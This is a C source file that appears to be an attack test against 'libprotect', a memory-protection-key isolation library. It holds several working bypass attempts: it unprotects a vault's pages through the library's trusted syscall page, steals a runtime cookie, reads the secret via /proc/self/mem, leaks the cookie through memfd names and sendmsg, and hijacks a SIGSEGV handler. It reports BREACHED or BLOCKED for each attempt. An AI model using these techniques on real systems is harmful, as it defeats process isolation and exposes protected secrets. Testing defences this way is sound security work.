/* Code reuse into libprotect's trusted system-call page (outside the
 * filter's scope), found from the restorer of any handler libprotect
 * installed:
 *   (none)    its plain entry, called to give the library's data back key 0
 *             (pkey_mprotect): a memory call without the runtime's cookie;
 *   guess     its cookie entry, handed a cookie of the attacker's making;
 *   cookie    its cookie entry, handed the runtime's own cookie page (found
 *             in libprotect's sealed state, which anyone may read);
 *   runtime   the runtime domain's RT_MEMORY service asked for the same
 *             pkey_mprotect (protect_service, slot 15);
 *   proc-mem  its plain entry for a call that is not a memory call: an
 *             open of /proc/self/mem, then a read of the secret there;
 *   name      its plain entry for memfd_create named by the runtime's cookie
 *             page (the call, stopped there as the application's, is
 *             carried out by the runtime domain, whose rights read that
 *             page: the name would show the cookie in /proc/self/fd);
 *   sendmsg   ... for sendmsg of the cookie page to a socket pair;
 *   sigaction its plain entry for an alternate stack and a SIGSEGV action of
 *             the attacker's (past libprotect's handler), then a fault
 *             inside the library: does the attacker's handler get the
 *             library's context? */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include <fcntl.h>
#include <signal.h>
#include <dlfcn.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <ucontext.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define RT_SLOT 15
#define RT_MEMORY 0

typedef trusted_page_call page_call;
typedef long (*cookie_call)(long, long, long, long, long, long, long, const uint64_t *, long);

static uintptr_t page_start(void)
{
    uintptr_t page = libprotect_trusted_page();
    if (!page)
        blocked("no restorer to follow");
    return page;
}

/* The cookie entry: the page's offset of it, from libprotect's symbols. */
static cookie_call cookie_entry(uintptr_t page)
{
    const uint64_t *off = libprotect_symbol("protect_trusted_cookie_call_offset");
    if (!off)
        blocked("the page's cookie entry not found");
    return (cookie_call)(page + *off);
}

/* Where the runtime's cookie lies: the word after the cookie entry's
 * address in libprotect's sealed pages (trusted_syscall.c's record). */
static const uint64_t *cookie_place(uintptr_t entry)
{
    struct mapping m[64];
    int n = libprotect_mappings(m, 64);
    for (int i = 0; i < n; i++) {
        if (m[i].perms[0] != 'r')
            continue;
        for (const uint64_t *w = (const uint64_t *)m[i].lo; (uintptr_t)(w + 2) <= m[i].hi; w++)
            if (*w == entry && w[1])
                return (const uint64_t *)w[1];
    }
    blocked("the cookie's place not found (no runtime domain?)");
}

static void context_seen(int sig, siginfo_t *si, void *ucv)
{
    (void)sig;
    (void)si;
    const ucontext_t *uc = ucv;
    Dl_info where;
    const char *lib = dladdr((void *)uc->uc_mcontext.gregs[REG_RIP], &where) && where.dli_fname ? where.dli_fname : "?";
    /* libprotect's own delivery of a library's fault shows where it was,
     * with every register hidden; the kernel's frame has them all. */
    static const int regs[] = {REG_RAX, REG_RBX, REG_RCX, REG_RDX, REG_RSI, REG_RDI, REG_RBP, REG_R8,
                               REG_R9, REG_R10, REG_R11, REG_R12, REG_R13, REG_R14, REG_R15};
    int shown = 0;
    for (size_t i = 0; i < sizeof regs / sizeof *regs; i++)
        shown += uc->uc_mcontext.gregs[regs[i]] != 0;
    if (strstr(lib, "libvault") && shown)
        printf("BREACHED: the library's context handed to the attacker's handler (rip in %s, %d registers)\n", lib,
               shown);
    else
        printf("BLOCKED: the attacker's handler got a context in %s with %d registers shown, not the library's\n",
               strstr(lib, "libvault") ? "libvault.so" : lib, shown);
    fflush(stdout);
    _exit(0);
}

static void handler_past_libprotect(uintptr_t page)
{
    static char alt[1 << 16];
    stack_t ss = {.ss_sp = alt, .ss_size = sizeof alt};
    struct { void *handler; unsigned long flags; void *restorer; uint64_t mask; } k = {
        (void *)context_seen, SA_SIGINFO | SA_ONSTACK | 0x04000000 /* SA_RESTORER */, (void *)page, 0};
    long r1 = ((page_call)page)(SYS_sigaltstack, (long)&ss, 0, 0, 0, 0, 0);
    long r2 = ((page_call)page)(SYS_rt_sigaction, SIGSEGV, (long)&k, 0, 8, 0, 0);
    printf("sigaltstack %ld, rt_sigaction %ld through the page\n", r1, r2);
    fflush(stdout);
    vault_secret_hash(VAULT_DATA, (uint64_t *)8); /* the library writes there: a fault inside it */
    blocked("the library did not fault");
}

int main(int argc, char **argv)
{
    const char *how = argc > 1 ? argv[1] : "";
    vault_open();
    uintptr_t page = page_start();
    struct vault_cell *c = vault_address(VAULT_DATA);
    long lo = (long)c & ~4095l, r;
    if (!strcmp(how, "proc-mem")) {
        long fd = ((page_call)page)(SYS_openat, AT_FDCWD, (long)"/proc/self/mem", O_RDWR, 0, 0, 0);
        if (fd < 0)
            blocked("/proc/self/mem not opened through the page");
        uint8_t copy[VAULT_SECRET_LEN];
        if (pread((int)fd, copy, sizeof copy, (off_t)(uintptr_t)c->secret) != (ssize_t)sizeof copy)
            blocked_errno("pread of /proc/self/mem");
        read_secret_at(VAULT_DATA, copy);
    }
    if (!strcmp(how, "sigaction"))
        handler_past_libprotect(page);
    if (!strcmp(how, "name") || !strcmp(how, "sendmsg")) {
        const uint64_t *cookie = cookie_place((uintptr_t)cookie_entry(page));
        char got[96] = "";
        if (!strcmp(how, "name")) {
            long fd = ((page_call)page)(SYS_memfd_create, (long)cookie, 0, 0, 0, 0, 0);
            if (fd < 0) {
                snprintf(got, sizeof got, "memfd_create named by the cookie page refused (%ld)", fd);
                blocked(got);
            }
            char link[64];
            snprintf(link, sizeof link, "/proc/self/fd/%ld", fd);
            ssize_t n = readlink(link, got, sizeof got - 1);
            got[n > 0 ? n : 0] = 0;
            printf("BREACHED: a memfd named by the runtime's memory: %s\n", got);
            return 0;
        }
        int sv[2];
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0)
            blocked_errno("socketpair");
        struct iovec v = {(void *)cookie, 8};
        struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1};
        long sent = ((page_call)page)(SYS_sendmsg, sv[0], (long)&m, 0, 0, 0, 0);
        if (sent != 8) {
            snprintf(got, sizeof got, "sendmsg of the cookie page refused (%ld)", sent);
            blocked(got);
        }
        printf("BREACHED: the runtime's cookie sent through a socket\n");
        return 0;
    }
    if (!strcmp(how, "guess")) {
        static const uint64_t guess = 0x0123456789abcdefull;
        r = cookie_entry(page)(SYS_pkey_mprotect, lo, 4096, PROT_READ | PROT_WRITE, 0, 0, 0, &guess, 0);
    } else if (!strcmp(how, "cookie")) {
        cookie_call entry = cookie_entry(page);
        r = entry(SYS_pkey_mprotect, lo, 4096, PROT_READ | PROT_WRITE, 0, 0, 0, cookie_place((uintptr_t)entry), 0);
    } else if (!strcmp(how, "runtime")) {
        uintptr_t (*service)(int, unsigned, uint64_t *) = libprotect_symbol("protect_service");
        if (!service)
            blocked("the service gate not found");
        uint64_t io[16] = {SYS_pkey_mprotect, (uint64_t)lo, 4096, PROT_READ | PROT_WRITE, 0};
        r = (long)service(RT_SLOT, RT_MEMORY, io);
    } else {
        /* The page starts with long fn(long nr, long a0, ..., long a5). */
        r = ((page_call)page)(SYS_pkey_mprotect, lo, 4096, PROT_READ | PROT_WRITE, 0, 0, 0);
    }
    if (r != 0) {
        char msg[64];
        snprintf(msg, sizeof msg, "pkey_mprotect through the page failed (%ld)", r);
        blocked(msg);
    }
    read_secret_at(VAULT_DATA, c->secret);
}
